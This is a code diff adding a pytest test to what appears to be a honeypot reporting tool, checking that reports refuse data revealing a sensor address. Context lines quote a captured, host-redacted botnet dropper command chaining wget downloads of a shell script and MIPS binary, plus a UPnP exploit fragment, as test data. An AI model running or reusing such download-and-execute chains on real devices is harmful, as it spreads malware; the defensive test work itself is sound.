@@ -21,8 +21,11 @@ from scapy.utils import wrpcap
 
 from teiten.cli.main import cli
 from teiten.config import Settings, load_settings
+from teiten.errors import TeitenError
 from teiten.export.stix_indicators import stix_export
 from teiten.pipeline import ingest
+from teiten.report import publish
+from teiten.report.model import Report
 from teiten.report.publish import write_report
 from teiten.secrecy import Secrecy
 from teiten.simulate import SimulationResult
@@ -153,6 +156,24 @@ def test_reports_name_no_sensor(
     md = texts[f"report.{lang}.md"]  # the crafted sample, masked token by token, nothing more
     assert "wget http://[redacted]/p0.sh;wget http://[redacted]:8080/bins/mips;" in md
     assert "<NewLeaseDuration>0</NewLeaseDuration>" in md and 'version="1.0"' in md
+
+
+def test_report_data_naming_the_sensor_is_refused_before_drawing(
+    store: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    real = publish.build_report
+
+    def leaky(*args: object, **kwargs: object) -> Report:
+        report = real(*args, **kwargs)  # type: ignore[arg-type]
+        flow = report.sections[0].flow
+        assert flow is not None
+        flow["downloads"].append("http://0xcb007105/x")  # text the PNG flow figure would show
+        return report
+
+    monkeypatch.setattr(publish, "build_report", leaky)
+    with pytest.raises(TeitenError, match="its data names a sensor address"):
+        write_report(store, tmp_path / "out", lang="en", fmts=("html",))
+    assert not (tmp_path / "out").exists()
 
 
 def test_stix_names_no_sensor(store: Settings, secrecy: Secrecy) -> None:
